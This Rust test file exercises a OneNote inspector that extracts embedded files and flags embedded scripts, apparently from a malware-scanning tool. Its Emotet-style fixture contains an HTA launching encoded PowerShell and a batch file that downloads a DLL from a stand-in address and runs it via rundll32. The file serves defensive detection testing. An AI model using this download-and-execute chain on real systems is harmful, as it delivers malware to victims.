mod common;
use common::*;
use fumidai_carriers::onenote::{FILE_DATA_GUID, ONE_GUID};

fn one(name: &str) -> Vec<u8> {
    corpus(&format!("carriers/onenote/{name}"))
}

#[test]
fn embedded_word_doc_is_extracted_with_its_name() {
    let data = one("testOneNoteEmbeddedWordDoc.one");
    let (report, f) = run(fumidai_carriers::inspect_onenote, "a.one", &data);
    assert_eq!(report.children.len(), 2, "{:?}", report.children);
    let doc = &report.children[0];
    assert_eq!(doc.name, "Dude this is a super cool embedded doc.docx");
    assert_eq!(doc.size, 11791);
    let at = 19288 + 36;
    assert_eq!(doc.sha256, sha256(&data[at..at + 11791]));
    assert!(data[at..].starts_with(b"PK\x03\x04"));
    let png = &report.children[1];
    assert_eq!(png.size, 670);
    assert!(png.name.ends_with(".png"), "{}", png.name);
    assert_eq!(count(&f, "ONENOTE_FILE"), 1);
    assert_eq!(count(&f, "ONENOTE_EMBEDDED_FILE"), 2);
    assert_eq!(count(&f, "ONENOTE_EMBEDDED_SCRIPT"), 0, "{f:?}");
    assert!(detail(&f, "ONENOTE_EMBEDDED_FILE").contains("11791 bytes, Word document"));
}

#[test]
fn sections_without_file_objects_have_no_children() {
    for name in [
        "testOneNoteEmbeddedImage.one",
        "testOneNote2016.one",
        "testOneNoteFromOffice365.one",
    ] {
        let data = one(name);
        assert!(data.starts_with(&ONE_GUID), "{name}");
        let (report, f) = run(fumidai_carriers::inspect_onenote, name, &data);
        assert!(report.children.is_empty(), "{name}: {:?}", report.children);
        assert_eq!(ids(&f), vec!["ONENOTE_FILE"], "{name}");
        assert_eq!(report.detected_type, fumidai_core::FileKind::OneNote);
    }
}

fn utf16z(s: &str) -> Vec<u8> {
    let mut v: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
    v.extend_from_slice(&[0, 0]);
    v
}

fn file_object(payload: &[u8], declared: u64) -> Vec<u8> {
    let mut v = FILE_DATA_GUID.to_vec();
    v.extend_from_slice(&declared.to_le_bytes());
    v.extend_from_slice(&[0; 12]);
    v.extend_from_slice(payload);
    v
}

/// A section shaped like the 2023 Emotet carrier: a property set naming invoice.hta and run.bat,
/// then the two files in FileDataStoreObjects.
fn crafted() -> (Vec<u8>, Vec<u8>, Vec<u8>) {
    let hta = b"<html><head><HTA:APPLICATION id=\"x\"/><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"powershell -enc AAAA\"</script></head></html>".to_vec();
    let bat = b"@echo off\r\ncurl -o %TEMP%\\a.dll http://192.0.2.1/a.dll\r\nrundll32 %TEMP%\\a.dll,DllRegisterServer\r\n".to_vec();
    let mut d = ONE_GUID.to_vec();
    d.extend_from_slice(&[0u8; 64]);
    d.extend_from_slice(&utf16z("C:\\Users\\x\\Desktop\\invoice.hta"));
    d.extend_from_slice(&[1, 0, 0, 0]);
    d.extend_from_slice(&utf16z("run.bat"));
    d.extend_from_slice(&file_object(&hta, hta.len() as u64));
    d.extend_from_slice(&[0u8; 8]);
    d.extend_from_slice(&file_object(&bat, bat.len() as u64));
    d.extend_from_slice(&[0u8; 8]);
    (d, hta, bat)
}

#[test]
fn crafted_emotet_section_hands_on_the_scripts() {
    let (d, hta, bat) = crafted();
    let (report, f) = run(fumidai_carriers::inspect_onenote, "Invoice.one", &d);
    let names: Vec<&str> = report.children.iter().map(|c| c.name.as_str()).collect();
    assert_eq!(names, vec!["invoice.hta", "run.bat"]);
    assert_eq!(report.children[0].sha256, sha256(&hta));
    assert_eq!(report.children[1].sha256, sha256(&bat));
    assert_eq!(count(&f, "ONENOTE_EMBEDDED_SCRIPT"), 2, "{f:?}");
    let script = f
        .iter()
        .find(|x| x.id == "ONENOTE_EMBEDDED_SCRIPT")
        .unwrap();
    assert_eq!(script.part, "Invoice.one > invoice.hta");
}

#[test]
fn lying_length_is_capped_and_truncation_is_safe() {
    let (mut d, _, _) = crafted();
    let payload = b"MZ\x90\x00rest of a program";
    d.extend_from_slice(&file_object(payload, u64::MAX));
    let (report, f) = run(fumidai_carriers::inspect_onenote, "x.one", &d);
    let last = report.children.last().unwrap();
    assert_eq!(last.size, payload.len() as u64);
    assert!(last.name.ends_with(".exe"), "{}", last.name);
    assert!(detail(&f, "ONENOTE_FILE").contains("3 embedded"));
    for cut in (0..d.len()).step_by(7) {
        let _ = run(fumidai_carriers::inspect_onenote, "cut.one", &d[..cut]);
    }
}
